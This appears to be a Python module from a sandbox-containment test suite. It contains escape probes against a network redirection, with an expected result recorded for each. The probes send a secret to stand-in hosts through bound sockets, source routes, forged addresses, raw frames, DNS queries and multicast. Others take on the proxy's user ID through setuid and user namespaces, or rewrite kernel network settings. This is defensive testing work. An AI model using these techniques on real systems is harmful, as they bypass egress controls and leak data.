"""Lines 1, 3, 5 and 8 where the network has a device: ways round a redirection that decides by address, user and flow.

The sealed sandbox has no device to leave by, and makes the same attempts.
"""

import contextlib
import os
import socket
import struct
import time
from collections.abc import Callable, Iterator
from functools import partial

from childproof.escape.table import AROUND, UNCONTAINED, Absent, Closed, Open, add, attempt
from childproof.escape.talk import SECRET, exchange, get, question, said, tried
from childproof.escape.ways import Way

from .files import in_a_copy, libc

_BRIEF = 0.3  # seconds for an answer that need not come
_IP_OPTIONS, _IP_TRANSPARENT, _IPV6_RTHDR, _FREEBIND6, _TRANSPARENT6, _FREEBIND = 4, 19, 57, 78, 75, 15
_SO_MARK = 36
_SOL_PACKET, _QDISC_BYPASS = 263, 20
_FORGED, _FORGED6 = "203.0.113.77", "2001:db8:77::1"
# What counts is the sinkhole: the client can't tell, and no call is made that could be recorded.
UNSEEN = Closed(("",))
PROXY_UID = 15001


def device() -> str:
    """The device that leads out; `lo` where there is none."""
    return next((name for _, name in socket.if_nameindex() if name != "lo"), "lo")


def own_addresses() -> dict[int, str]:
    """One address of this network namespace for each family: what a packet to anywhere would come from."""
    found: dict[int, str] = {socket.AF_INET: "127.0.0.1", socket.AF_INET6: "::1"}
    for family, far in ((socket.AF_INET, "203.0.113.1"), (socket.AF_INET6, "2606:4700::1111")):
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.connect((far, 9))
            found[family] = sock.getsockname()[0]
    return found


# --- 1f: routes of a socket's own


def _bound(sock: socket.socket) -> None:
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device().encode() + b"\0")


def _marked(sock: socket.socket) -> None:
    sock.setsockopt(socket.SOL_SOCKET, _SO_MARK, 0x6368_0001)


def _source_route(sock: socket.socket) -> None:
    """Loose source and record route, by the gateway (RFC 791, section 3.1)."""
    sock.setsockopt(socket.IPPROTO_IP, _IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton("10.99.0.2") + b"\0")


def _source_route_home(sock: socket.socket) -> None:
    """By an address of this namespace's own."""
    home = socket.inet_aton(own_addresses()[socket.AF_INET])
    sock.setsockopt(socket.IPPROTO_IP, _IP_OPTIONS, b"\x83\x07\x04" + home + b"\0")


def _routing_header(sock: socket.socket) -> None:
    """A segment (RFC 8754) at an address of this namespace's own."""
    home = socket.inet_pton(socket.AF_INET6, own_addresses()[socket.AF_INET6])
    header = struct.pack("!8B", 0, 4, 4, 1, 1, 0, 0, 0) + bytes(16) + home
    sock.setsockopt(socket.IPPROTO_IPV6, _IPV6_RTHDR, header)


for _name, _family, _prepare, _place in (
    ("a_connection_bound_to_a_device", socket.AF_INET, _bound, "203.0.113.60"),
    ("a_connection_bound_to_a_device_over_ipv6", socket.AF_INET6, _bound, "2606:4700::60"),
    ("a_marked_connection", socket.AF_INET, _marked, "203.0.113.61"),
    ("a_connection_with_a_source_route", socket.AF_INET, _source_route, "203.0.113.62"),
    ("a_connection_with_a_source_route_back", socket.AF_INET, _source_route_home, "203.0.113.63"),
    ("a_connection_with_a_routing_header", socket.AF_INET6, _routing_header, "2606:4700::63"),
):

    def _connect(way: Way, family: int, prepare: Callable[[socket.socket], None], place: str) -> str:
        del way
        with socket.socket(family) as sock:
            sock.settimeout(_BRIEF)
            prepare(sock)
            sock.connect((place, 80))
            return said(sock, get(f"[{place}]" if ":" in place else place))

    add(
        "1f",
        _name,
        partial(_connect, family=_family, prepare=_prepare, place=_place),
        direct=Closed(("HTTP/1.1 403", "TimeoutError", "PermissionError", "OSError", "ConnectionR")),
        proxied=AROUND,
    )

for _name, _family, _place in (
    ("a_datagram_bound_to_a_device", socket.AF_INET, "203.0.113.64"),
    ("a_datagram_bound_to_a_device_over_ipv6", socket.AF_INET6, "2606:4700::64"),
    ("a_query_bound_to_a_device", socket.AF_INET, "10.99.0.2"),
):

    def _send(way: Way, family: int, place: str, port: int) -> str:
        del way
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            _bound(sock)
            sock.sendto(SECRET.encode(), (place, port))
        return "sent"

    _port = 53 if "query" in _name else 4464
    add("1f", _name, partial(_send, family=_family, place=_place, port=_port), direct=UNSEEN, proxied=AROUND)


# --- 1g: senders that are not here


def _forging(family: int, kind: int) -> Iterator[socket.socket]:
    """A socket bound to an address that is somebody else's, by each option that permits it."""
    level, options = (
        (socket.IPPROTO_IPV6, (_FREEBIND6, _TRANSPARENT6))
        if family == socket.AF_INET6
        else (socket.IPPROTO_IP, (_FREEBIND, _IP_TRANSPARENT))
    )
    for option in options:
        with contextlib.suppress(OSError), socket.socket(family, kind) as sock:
            sock.settimeout(_BRIEF)
            sock.setsockopt(level, option, 1)
            sock.bind((_FORGED6 if family == socket.AF_INET6 else _FORGED, 4477))
            yield sock


@attempt("1g", direct=UNSEEN, proxied=AROUND)
def an_answer_to_a_forged_datagram(way: Way) -> str:
    """One's own listener is asked by a sender that isn't here: to the kernel the answer belongs to a known flow."""
    del way
    answered = 0
    for family, own in own_addresses().items():
        with socket.socket(family, socket.SOCK_DGRAM) as server:
            server.settimeout(_BRIEF)
            server.bind((own, 0))
            for forger in _forging(family, socket.SOCK_DGRAM):
                with contextlib.suppress(OSError):
                    forger.sendto(b"?", server.getsockname()[:2])
                    _, sender = server.recvfrom(10)
                    server.sendto(SECRET.encode(), sender)
                    answered += 1
    return f"{answered} answered"


@attempt("1g", direct=UNSEEN, proxied=AROUND)
def an_answer_to_a_forged_query(way: Way) -> str:
    """The proxy answers names: here to whom it asks itself, who would see the question in the answer."""
    del way
    sent = 0
    for host, family, option in (
        ("fd00:99::2", socket.AF_INET6, _FREEBIND6),
        ("10.99.0.2", socket.AF_INET, _IP_TRANSPARENT),
    ):
        level = socket.IPPROTO_IPV6 if family == socket.AF_INET6 else socket.IPPROTO_IP
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.setsockopt(level, option, 1)
            sock.bind((host, 53))
            sent += sock.sendto(question(f"{SECRET}.forged.example", 16), (host, 53))
    return f"{sent} bytes sent"


@attempt("1g", direct=UNSEEN, proxied=AROUND)
def an_answer_to_a_forged_connection(way: Way) -> str:
    """The kernel itself answers a SYN: of one's own listener, and of the proxy's."""
    del way
    begun = 0
    for family, own in own_addresses().items():
        with socket.create_server((own, 0), family=family) as server:
            for place in (server.getsockname()[:2], ("2606:4700::77" if ":" in own else "203.0.113.78", 80)):
                for forger in _forging(family, socket.SOCK_STREAM):
                    forger.setblocking(False)
                    with contextlib.suppress(OSError):
                        begun += forger.connect_ex(place) in (0, 115)
                        time.sleep(0.01)  # a SYN and its answer take microseconds
    return f"{begun} begun"


# --- 3d: a listener beside the proxy's


@attempt("3d", direct=Closed(("HTTP/1.1 403",), "GET http://beside.example/"), proxied=UNCONTAINED)
def a_listener_beside_the_proxys(way: Way) -> str:
    """At its ports, on every address that is still free, with every option that shares one: calls go to it all the same."""
    with contextlib.ExitStack() as stack:
        for kind, port in ((socket.SOCK_STREAM, 15001), (socket.SOCK_STREAM, 15053), (socket.SOCK_DGRAM, 15053)):
            for host in ("127.0.0.1", "::1", "0.0.0.0", "::", *own_addresses().values()):
                sock = stack.enter_context(socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind))
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                with contextlib.suppress(OSError):
                    sock.bind((host, port))
                    if kind == socket.SOCK_STREAM:
                        sock.listen()
        return exchange(way, "beside.example", 80, get("beside.example"))


# --- 5: what is below a socket's own protocol


_NO_PACKETS = Closed(("PermissionError", "OSError: [Errno 97]"))


@attempt("5e", direct=_NO_PACKETS, proxied=AROUND, capable=Closed(("sent",)))
def a_frame(way: Way) -> str:
    """A datagram in a frame of one's own making, and a frame of no protocol; past the device's queue too."""
    del way
    for bypass in (0, 1):
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
            sock.bind((device(), 0))
            sock.setsockopt(_SOL_PACKET, _QDISC_BYPASS, bypass)
            with contextlib.suppress(OSError):
                sock.send(_frame("10.99.0.1", "203.0.113.65", 4465))
            with contextlib.suppress(OSError):
                sock.send(b"\xff" * 6 + bytes(6) + b"\x88\xb5" + SECRET.encode())  # an ethertype for experiments
    return "sent"


@attempt("1g", direct=_NO_PACKETS, proxied=AROUND, capable=UNSEEN)
def an_answer_to_a_forged_frame(way: Way) -> str:
    """The forged sender's datagram is put on `lo` as a frame."""
    del way
    own = own_addresses()[socket.AF_INET]
    with (
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server,
    ):
        server.settimeout(_BRIEF)
        server.bind((own, 0))
        sock.bind(("lo", 0))
        sock.send(_frame("203.0.113.79", own, server.getsockname()[1]))
        _, sender = server.recvfrom(100)
        server.sendto(SECRET.encode(), sender)
    return "answered"


def _frame(sender: str, receiver: str, port: int) -> bytes:
    """A datagram in IPv4 in Ethernet, to every card."""
    datagram = struct.pack("!4H", 4479, port, 8 + len(SECRET), 0) + SECRET.encode()
    fields = (0x45, 0, 20 + len(datagram), 1, 0, 64, 17)
    addresses = socket.inet_aton(sender) + socket.inet_aton(receiver)
    total = sum(struct.unpack("!10H", struct.pack("!BBHHHBBH", *fields, 0) + addresses))
    checksum = ~(total + (total >> 16)) & 0xFFFF
    header = struct.pack("!BBHHHBBH", *fields, checksum) + addresses
    return b"\xff" * 6 + bytes(6) + b"\x08\x00" + header + datagram


@attempt("5f", direct=Closed(("PermissionError", "OSError: [Errno 93]")), proxied=AROUND, capable=UNSEEN)
def a_raw_packet(way: Way) -> str:
    """Protocol 255 to anywhere, and an answer to nobody."""
    del way
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 6, 0, bytes(4), socket.inet_aton("203.0.113.66"))
    # RST and ACK, as of a connection that is over.
    segment = header + struct.pack("!HHIIBBHHH", 4466, 80, 1, 1, 0x50, 0x14, 0, 0, 0)
    sent = []
    for family, protocol, data, place in (
        (socket.AF_INET, 255, segment, "203.0.113.66"),
        (socket.AF_INET6, socket.IPPROTO_ICMPV6, bytes([129, 0, 0, 0]) + SECRET.encode(), "2606:4700::66"),
    ):
        with socket.socket(family, socket.SOCK_RAW, protocol) as sock:
            sent.append(tried(partial(sock.sendto, data, (place, 0))))
    return str(sent)


@attempt(
    "5c", direct=Closed(("PermissionError", "OSError: [Errno 113]"), "2606:4700::67", unless=("no",)), proxied=AROUND
)
def ping_over_ipv6(way: Way) -> str:
    """The same as ICMPv6."""
    del way
    try:
        sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
    except PermissionError:
        return "no such sockets for this group of users"
    with sock:
        sock.settimeout(_BRIEF)
        sock.connect(("2606:4700::67", 0))
        sock.send(bytes([128, 0, 0, 0, 0, 0, 0, 0]))
        return sock.recv(10).hex()


@attempt("5h", direct=UNSEEN, proxied=AROUND)
def a_multicast_membership(way: Way) -> str:
    """A group's address says something, and the kernel reports it to the link (RFC 3376, RFC 3810)."""
    del way
    index = socket.if_nametoindex(device())
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        group = struct.pack("=4s4sI", socket.inet_aton("239.77.66.55"), bytes(4), index)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as other:
            for place in ("ff15::4d65:7373:6167:65", "ff02::4d65:7373"):
                group = socket.inet_pton(socket.AF_INET6, place) + struct.pack("=I", index)
                other.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, group)
    return "joined"


@attempt("5h", direct=UNSEEN, proxied=AROUND)
def a_neighbours_address(way: Way) -> str:
    """The address of a machine on the link says something, and the kernel asks the link for it (RFC 826, RFC 4861)."""
    del way
    sent = 0
    for place in ("10.99.0.77", "fd00:99::4d65:7373:6167", f"fe80::4d65:7373:6167%{device()}"):
        target = socket.getaddrinfo(place, 4477)[0][4]
        for bind in (False, True):
            for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
                with socket.socket(socket.AF_INET6 if ":" in place else socket.AF_INET, kind) as sock:
                    sock.setblocking(False)
                    if bind:
                        _bound(sock)
                    with contextlib.suppress(OSError):
                        sock.connect(target)
                    with contextlib.suppress(OSError):
                        sent += sock.send(b"?")
    return f"{sent} sent"


# --- 8: users and settings

_LEAVES = Open(
    "CAP_SETUID lets a process become the user who may leave, and the kernel can't tell it from the proxy: a manifest that "
    "drops the capabilities closes it, as ours do; `childproof doctor --workload` says where it isn't"
)


@attempt("8h", direct=Closed(("refused",)), proxied=UNCONTAINED, capable=_LEAVES)
def becoming_the_proxys_user(way: Way) -> str:
    """By setuid, setgid and setgroups."""
    del way

    def become() -> str:
        return tried(
            partial(os.setresuid, PROXY_UID, PROXY_UID, PROXY_UID),
            partial(os.setresuid, -1, PROXY_UID, -1),
            partial(os.setresgid, PROXY_UID, PROXY_UID, PROXY_UID),
            partial(os.setgroups, [PROXY_UID]),
        )

    return in_a_copy(become)


@attempt("8h", direct=Closed(("HTTP/1.1 403", "nothing there", "PermissionError")), proxied=UNCONTAINED)
def the_proxys_user_by_another_name(way: Way) -> str:
    """In a user namespace where one's own number is the proxy's."""

    def named() -> str:
        uid = os.getuid()
        if libc.unshare(0x10000000) != 0:
            return "nothing there: no namespace"
        with open("/proc/self/uid_map", "w") as file:
            file.write(f"{PROXY_UID} {uid} 1")
        return exchange(way, "203.0.113.68", 80, get("203.0.113.68"))

    return in_a_copy(named)


@attempt("8i", direct=Closed(("refused",)), proxied=UNCONTAINED)
def the_kernels_settings(way: Way) -> str:
    """What forwards, routes and answers: to change."""
    del way
    names = ("ipv4/ip_forward", "ipv4/conf/all/route_localnet", "ipv4/ping_group_range", "ipv6/conf/all/forwarding")
    return tried(*(partial(_rewrite, f"/proc/sys/net/{name}") for name in names))


def _rewrite(path: str) -> None:
    with open(path, "r+") as file:
        text = file.read()
        file.seek(0)
        file.write(text)


add(
    "6i",
    "an_answer_to_whoever_asks_from_outside",
    None,
    direct=Absent("nobody outside can connect: there is no device"),
    proxied=UNCONTAINED,
    shared=Open(
        "whoever the network lets in to the pod is answered: probes and services need it; a NetworkPolicy says who that is"
    ),
)
